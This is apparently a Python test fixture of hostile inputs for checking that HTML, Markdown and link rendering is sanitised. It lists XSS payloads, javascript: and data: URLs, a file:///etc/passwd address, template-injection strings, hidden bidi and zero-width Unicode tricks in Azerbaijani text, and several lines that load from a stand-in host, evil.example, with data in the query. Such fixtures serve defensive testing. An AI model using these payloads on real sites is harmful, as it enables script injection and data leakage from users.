"""Texts that try to run a script, to send something away, or to look like what they are not."""

MARKER = "korpu-xss"

HTML = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<img src='https://evil.example/steal?c=1'>",
    "<svg onload='window.hacked = 1'></svg>",
    "<svg><script>window.hacked = 1</script></svg>",
    "<iframe src='javascript:parent.hacked = 1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked = 1' autofocus>klikləyin</a>",
    "<body onload='window.hacked = 1'>",
    "<details open ontoggle='window.hacked = 1'><summary>x</summary></details>",
    "<input autofocus onfocus='window.hacked = 1'>",
    "<video><source onerror='window.hacked = 1'></video>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<link rel=stylesheet href='https://evil.example/s.css'>",
    "<link rel=prefetch href='https://evil.example/p'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example/o'></object>",
    "<embed src='https://evil.example/e'>",
    "<form action='https://evil.example/f'><button>Göndər</button></form>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/d)'>x</div>",
    "<math><mi xlink:href='javascript:window.hacked = 1'>x</mi></math>",
    "<template><img src=x onerror='window.hacked = 1'></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "</bdi></li></ul><script>window.hacked = 1</script>",
    '"><script>window.hacked = 1</script>',
    "' autofocus onfocus='window.hacked = 1' x='",
    "]]><script>window.hacked = 1</script>",
    "<!--><script>window.hacked = 1</script-->",
    "&lt;script&gt;window.hacked = 1&lt;/script&gt;",
    "{{ 7 * 7 }}{% include 'secret' %}${7*7}",
)
MARKDOWN = (
    "![rəsm](https://evil.example/i.png?q=fin)",
    "[klikləyin](javascript:window.hacked=1)",
    "[mənbə](https://evil.example/?data=fin)",
    "<https://evil.example/auto>",
    "[ref]: https://evil.example/ref\n![x][ref]",
    "`<script>window.hacked = 1</script>`",
    "https://evil.example/çılpaq?data=1",
)
UNSEEN = (
    "Rüsum \u202e05 AZN\u202c deyil",
    "\u2066Rüsum\u2069 \u202d30 AZN\u202c",
    "Rü\u200bsum\u200d 30\u2060 AZN\ufeff",
    "\u200f\u061cRüsum 30 AZN\u200e",
    "gizli\U000e0041\U000e0042\U000e007f mətn",
    "sətir\u2028bölən\u2029mətn",
    "zəng\u0007 və \u001b[31mqırmızı",
    "interlin\ufff9ear\ufffa mətn\ufffb",
)
ADDRESSES = (
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    " javascript:window.hacked=1",
    "java\nscript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://evil.example:99999999/",
    "http://[",
)
"""A source's address that must not become a link."""

TEXTS = HTML + MARKDOWN + UNSEEN
